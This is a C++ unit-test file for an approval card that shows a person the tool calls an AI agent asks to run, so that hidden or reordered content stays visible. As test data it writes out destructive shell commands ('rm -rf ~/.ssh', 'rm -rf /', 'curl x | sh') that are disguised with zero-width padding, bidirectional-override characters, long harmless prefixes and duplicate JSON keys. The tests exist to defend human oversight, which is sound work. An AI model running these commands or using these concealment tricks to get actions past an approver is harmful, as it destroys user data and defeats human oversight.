#include "mcp/approve.h"

#include <gtest/gtest.h>

#include "cli/visible_text.h"
#include "mcp/raw_json.h"

namespace vesk::mcp {
namespace {

std::string repeated(std::string_view text, size_t times) {
  std::string all;
  for (size_t i = 0; i < times; ++i) all += text;
  return all;
}

// What an agent under an attacker's control might send, and the card a person must see.
TEST(ApprovalCardTest, ShowsEveryMemberVisiblyInTheOrderSent) {
  const struct {
    std::string tool, input, question;
  } cases[] = {
      {"Bash", R"({"command":"ls","description":"list"})",
       "Allow Bash: ls\ndescription (the agent's own words): list"},
      // Reordering and invisible characters are written out.
      {"Bash", R"({"command":"echo \"\u202e\"\u2066; touch /tmp/PWNED #\u2069\u202c"})",
       "Allow Bash: echo \"\\u{202E}\"\\u{2066}; touch /tmp/PWNED #\\u{2069}\\u{202C}"},
      {"Bash", "{\"command\":\"npm test" + repeated("\\u200b", 195) + "; rm -rf ~/.ssh\"}",
       "Allow Bash: npm test\\u{200B}×195; rm -rf ~/.ssh"},
      {"Bash", "{\"command\":\"ls\\n\\tcat\\r\\u0085\\u007f \\u00a0\\u2028\\udb40\\udc41.\"}",
       "Allow Bash: ls\\u{A}\\u{9}cat\\u{D}\\u{85}\\u{7F} \\u{A0}\\u{2028}\\u{E0041}."},
      // Every member, the one that names the action first, the rest as sent, never sorted.
      {"Bash", R"({"timeout":5,"script":"curl x | sh","command":"ls"})",
       "Allow Bash: ls\ntimeout: 5\nscript: curl x | sh"},
      {"WebFetch", R"({"prompt":"sum","url":"https://example.invalid/"})",
       "Allow WebFetch: https://example.invalid/\nprompt: sum"},
      {"Edit", R"({"file_path":"/a","old_string":"x","new_string":"y\nz","replace_all":false})",
       "Allow Edit: /a\nold_string: x\nnew_string: y\\u{A}z\nreplace_all: false"},
      {"Grep", R"({"path":"src","pattern":"TODO"})", "Allow Grep: src\npattern: TODO"},
      {"Task", R"({"subagent":"x","prompt":"y"})", "Allow Task: subagent: x\nprompt: y"},
      // Values that are no text, spelled as they came; an empty text is seen.
      {"Bash", R"({"command":["rm", "-rf", "/"],"file_path":"/x"})",
       "Allow Bash: [\"rm\",\"-rf\",\"/\"]\nfile_path: /x"},
      {"Bash", R"({"command":"","n":123456789012345678901234567890,"e":1e2,"o":{"b":1, "a":[]}})",
       "Allow Bash: \"\"\nn: 123456789012345678901234567890\ne: 1e2\no: {\"b\":1,\"a\":[]}"},
      {"Bash", "{}", "Allow Bash: {}"},
      {"Ba\xe2\x80\xaeh\n", R"({"command":"x"})", "Allow Ba\\u{202E}h\\u{A}: x"},
      {"Bash", R"({"comm\u0061nd":"decoded key","k\u200by":"v"})",
       "Allow Bash: decoded key\nk\\u{200B}y: v"},
  };
  for (const auto& c : cases) {
    ApprovalCard card = approvalCard(c.tool, c.input);
    EXPECT_EQ(card.question, c.question) << c.input;
    EXPECT_TRUE(card.whole) << c.input;
    EXPECT_FALSE(card.problem) << c.input;
  }
}

TEST(ApprovalCardTest, ShowsTheEndsOfWhatItCannotShowWhole) {
  // A harmless head cannot hide the end: both ends are shown, with what is between counted.
  const std::string command = "python -m pip install " + repeated("pkg ", 1000) + "; rm -rf ~/.ssh";
  ApprovalCard card = approvalCard("Bash", "{\"command\":\"" + command + "\"}");
  EXPECT_FALSE(card.whole);
  EXPECT_TRUE(card.question.starts_with("Allow Bash: python -m pip install pkg"));
  EXPECT_TRUE(card.question.ends_with("pkg ; rm -rf ~/.ssh"));
  // 4,037 characters, of which 312 and 156 are shown.
  EXPECT_NE(card.question.find(" pk … 3,569 characters not shown …  pkg"), std::string::npos);
  EXPECT_EQ(codePointCount(card.question), std::string_view("Allow Bash: ").size() + 500);

  // Escapes count as the characters they are written with, and are never cut.
  card = approvalCard("Bash", "{\"command\":\"" + repeated("\\u202e", 100) + "x" +
                                  repeated("\\u00a0a", 100) + "\"}");
  EXPECT_FALSE(card.whole);
  EXPECT_TRUE(card.question.starts_with("Allow Bash: \\u{202E}×100x\\u{A0}a\\u{A0}a"));
  EXPECT_TRUE(card.question.ends_with("\\u{A0}a")) << card.question;

  // Members past the question's size are counted, and the card never ends on a bare "…".
  std::string many = "{\"command\":\"ls\"";
  for (int i = 0; i < 40; ++i)
    many += ",\"m" + std::to_string(i) + "\":\"" + repeated("v", 400) + "\"";
  card = approvalCard("Bash", many + "}");
  EXPECT_FALSE(card.whole);
  EXPECT_LE(codePointCount(card.question), kLongestQuestion);
  EXPECT_TRUE(card.question.ends_with("\n… 36 more members not shown …")) << card.question;
}

TEST(ApprovalCardTest, RefusesWhatItCannotShowHonestly) {
  for (std::string_view input :
       {R"({"command":"ls","command":"rm -rf ~"})", "[1]", "\"ls\"", "3"}) {
    ApprovalCard card = approvalCard("Bash", input);
    EXPECT_TRUE(card.problem) << input;
    EXPECT_FALSE(card.whole) << input;
  }
  EXPECT_EQ(*approvalCard("Bash", R"({"a":1,"\u0061":2})").problem,
            "the input names a twice, and hosts differ on which one counts");
}

TEST(ApprovalCardTest, NamesWhoAsks) {
  EXPECT_EQ(folderName("/home/ada/vesk"), "vesk");
  EXPECT_EQ(folderName("/home/ada/vesk/"), "vesk");
  EXPECT_EQ(folderName("/"), "/");
  EXPECT_EQ(folderName("C"), "C");
  EXPECT_EQ(approvalTitle("pro\xe2\x80\xaeject"), "pro\\u{202E}ject");
  EXPECT_EQ(codePointCount(approvalTitle(repeated("x", 500))), kLongestTitle);
}

TEST(RawJsonTest, FindsValuesAsWritten) {
  const std::string_view object = R"( { "a" : [1, {"b": "]}"}] , "c\"d":"x\\" ,"a":1e2 } )";
  auto members = rawMembers(object);
  ASSERT_EQ(members.size(), 3u);
  EXPECT_EQ(members[0].value, R"([1, {"b": "]}"}])");
  EXPECT_EQ(decodedString(members[1].key), "c\"d");
  EXPECT_EQ(members[1].value, R"("x\\")");
  EXPECT_EQ(rawMember(object, "a"), "1e2");  // the last, as a reader keeps it
  EXPECT_FALSE(rawMember(object, "b"));
  EXPECT_EQ(compactJson(members[0].value), R"([1,{"b":"]}"}])");
  auto elements = rawElements(R"([ {"id":1} ,"x", [2,3]])");
  ASSERT_EQ(elements.size(), 3u);
  EXPECT_EQ(elements[2], "[2,3]");
}

}  // namespace
}  // namespace vesk::mcp
